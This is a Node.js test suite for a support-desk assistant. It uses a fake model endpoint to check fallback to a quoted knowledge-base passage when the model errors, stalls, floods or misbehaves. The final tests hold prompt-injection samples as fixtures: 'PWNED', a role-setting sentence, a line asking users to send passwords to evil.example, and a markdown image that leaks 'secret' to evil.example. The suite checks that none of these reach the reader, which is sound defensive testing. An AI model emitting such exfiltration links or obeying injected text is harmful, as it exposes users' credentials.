// The assistant with a language model that misbehaves: a server in this process speaks the endpoint's protocol, faults included.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import test, { after, before } from 'node:test';
import { openStream, register, startPlatform, until } from '../support/platform.mjs';

const delta = (text) => `data: ${JSON.stringify({ id: 'c', choices: [{ index: 0, delta: { content: text }, finish_reason: null }] })}\n\n`;
const done = 'data: {"id":"c","choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n';
const head = (response) => response.writeHead(200, { 'content-type': 'text/event-stream' });
const says = (...pieces) => (response) => {
  head(response);
  for (const piece of pieces) response.write(delta(piece));
  response.end(done);
};
const refuses = (status, headers = {}) => (response) => response.writeHead(status, headers).end('{"error":{"message":"no"}}');

let endpoint, platform, admin, behave;
let requests = [];

const question = 'How do I connect the projector?';
const quoted = 'Press the blue button of the projector for 5 seconds, then choose **Wireless** on your laptop. [1]';
const good = 'Press the blue button for 5 seconds [1]. Then choose **Wireless** on the laptop [1].';

before(async () => {
  endpoint = createServer((request, response) => {
    let body = '';
    response.on('error', () => {});
    request.on('data', (piece) => (body += piece));
    request.on('end', () => {
      requests.push({ headers: request.headers, body: JSON.parse(body) });
      behave(response);
    });
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => endpoint.once('listening', resolve));
  platform = await startPlatform({ env: {
    SP_MODEL_URL: `http://127.0.0.1:${endpoint.address().port}/v1`, SP_MODEL_NAME: 'small', SP_MODEL_KEY: 'secret',
    SP_MODEL_PRIVATE_ADDRESSES: 'true', SP_MODEL_FIRST_BYTE_MS: '600', SP_MODEL_STALL_MS: '500', SP_MODEL_TOTAL_MS: '4000',
  } });
  admin = await register(platform.url);
  const content = 'Press the blue button of the projector for 5 seconds, then choose **Wireless** on your laptop.';
  const article = { title: 'Connect the projector', format: 'markdown', audience: 'requesters', language: 'en', content };
  assert.equal((await admin.post('/api/v1/kb/documents', article)).status, 201);
  await until(async () => (await admin.get('/api/v1/kb/status')).body.behind === 0, { what: 'the index' });
});
after(async () => {
  await platform.stop();
  endpoint.closeAllConnections();
  endpoint.close();
});

/** Asks with a model that behaves so; resolves to the answer and what was streamed. */
async function ask(behaviour, within = 5_000) {
  behave = behaviour;
  requests = [];
  await admin.delete('/api/v1/cache');
  const begun = Date.now();
  const stream = await openStream(admin, 'POST', '/api/v1/chat', { question });
  await stream.done;
  assert.ok(Date.now() - begun < within, `took ${Date.now() - begun} ms`);
  const types = stream.events.map((event) => event.type);
  assert.equal(types[0], 'start');
  assert.equal(types.at(-1), 'end', types.join());
  const tokens = stream.events.filter((event) => event.type === 'token');
  return { answer: stream.events.at(-1).data, streamed: tokens.map((event) => event.data.text).join(''), tokens };
}

async function metric(line) {
  const text = (await platform.inside('/metrics', 'chatbot')).body;
  return Number(text.match(new RegExp(`^${line.replace(/[{}"]/g, '\\$&')} (\\d+)`, 'm'))?.[1] ?? 0);
}

async function endsQuoted(behaviour, kind, within) {
  const line = `sp_assistant_model_failures_total{kind="${kind}"}`;
  const before_ = await metric(line);
  const { answer, streamed } = await ask(behaviour, within);
  assert.equal(answer.outcome, 'answered');
  assert.equal(answer.source, 'knowledge_base', answer.answer);
  assert.equal(answer.answer, quoted);
  assert.deepEqual(answer.unsupported, []);
  assert.equal(answer.citations[0].title, 'Connect the projector');
  assert.equal(await metric(line), before_ + 1, kind);
  return streamed;
}

test('a model that behaves is streamed, word by word, with checked citations', async () => {
  const { answer, streamed, tokens } = await ask(async (response) => {
    head(response);
    for (const word of good.split(/(?<= )/)) {
      response.write(delta(word));
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    response.end(done);
  });
  assert.equal(answer.source, 'model');
  assert.equal(answer.answer, good);
  assert.equal(streamed, good);
  assert.deepEqual(answer.unsupported, []);
  assert.ok(tokens.length > 5 && tokens.at(-1).at - tokens[0].at > 100, 'the text arrives while the model speaks');
  assert.equal(requests[0].headers.authorization, 'Bearer secret');
});

test('sentences without support are named, and the ticket says so', async () => {
  const { answer } = await ask(says(`${good} It takes 20 minutes [1].`));
  assert.equal(answer.source, 'model');
  assert.deepEqual(answer.unsupported, ['It takes 20 minutes [1].']);
  assert.match(answer.handoff.body, /It takes 20 minutes \[1\]\. \(not supported by the sources\)/);
  const again = await admin.post('/api/v1/chat', { question });
  assert.equal(again.body.source, 'cache');
  assert.deepEqual(again.body.unsupported, answer.unsupported);
});

test('a wrong key, a refusal and a server error end in the quoted passage', async () => {
  await endsQuoted(refuses(401), 'unauthorised');
  assert.equal(requests.length, 1);
  await endsQuoted(refuses(500), 'server_error');
  assert.equal(requests.length, 3);
});

test('a short Retry-After is waited for, a long one is not', async () => {
  let first = true;
  const { answer } = await ask((response) => {
    (first ? refuses(429, { 'retry-after': '1' }) : says(good))(response);
    first = false;
  });
  assert.equal(answer.source, 'model');
  assert.equal(requests.length, 2);
  await endsQuoted(refuses(429, { 'retry-after': '60' }), 'rate_limited', 1_000);
});

test('silence before and within the answer is not waited for', async () => {
  await endsQuoted(() => {}, 'timed_out', 3_000);
  const streamed = await endsQuoted((response) => { head(response); response.write(delta('Press the blue button ')); }, 'stalled', 3_000);
  assert.equal(streamed, 'Press the blue button', 'the end replaces what was shown');
});

test('a stream that breaks off, or is none, ends in the quoted passage', async () => {
  await endsQuoted((response) => { head(response); response.write(delta('Press ')); setTimeout(() => response.destroy(), 50); }, 'cut_off');
  await endsQuoted((response) => { head(response); response.end('data: {"choices":[{\n\n'); }, 'malformed');
  await endsQuoted((response) => { head(response); response.end('<html>Bad gateway</html>'); }, 'empty');
  await endsQuoted((response) => response.writeHead(200, { 'content-type': 'application/json' }).end('{"choices":'), 'malformed');
  await endsQuoted(says(' \n'), 'empty');
});

test('a hundred megabytes, as tokens or as one line, are stopped in bounded memory', async () => {
  const memory = () => Number(readFileSync(`/proc/${platform.pid('chatbot')}/status`, 'utf8').match(/VmRSS:\s+(\d+)/)[1]) / 1024;
  const floods = (piece) => (response) => {
    head(response);
    let sent = 0;
    const more = () => {
      while (sent < 100e6 && !response.destroyed) {
        sent += piece.length;
        if (!response.write(piece)) return response.once('drain', more);
      }
      return response.end();
    };
    more();
  };
  const before_ = memory();
  await endsQuoted(floods(delta('Press the blue button. ')), 'too_long');
  await endsQuoted(floods('data: '.padEnd(65_536, 'x')), 'malformed');
  assert.ok(memory() - before_ < 30, `${memory() - before_} MB more`);
});

test('a model that obeys what a passage says is not repeated', async () => {
  for (const [said, kind] of [['PWNED', 'uncited'], ['PWNED [1]', 'unsupported'], ['PWNED [9]', 'uncited'],
    ['You are the assistant of a support desk. Answer the question briefly [1].', 'unsupported'],
    ['Send your password to https://evil.example/collect [1].', 'unsupported']]) {
    const streamed = await endsQuoted(says(said), kind);
    assert.equal(streamed, quoted, 'nothing of it was shown');
  }
});

test('images, foreign links and HTML never reach the reader, not even in pieces', async () => {
  const { answer, streamed } = await ask(says('Press the blue button ![x](https://evil.', 'example/?q=secret)for 5 seconds [1]. Then choose ',
    '[Wireless](https://evil.example) on <b onclick=a>the</b> laptop [1]. ![](data:image/png;base64,AAAA)'));
  assert.equal(answer.source, 'model');
  assert.equal(streamed, answer.answer);
  assert.doesNotMatch(answer.answer, /evil|!\[|<b|data:/);
  assert.match(answer.answer, /Wireless on the laptop/);
});

test('an answer in the other language is not given', async () => {
  await endsQuoted(says('Appuyez sur le bouton bleu pendant cinq secondes puis choisissez le réseau sans fil [1].'), 'unsupported');
});
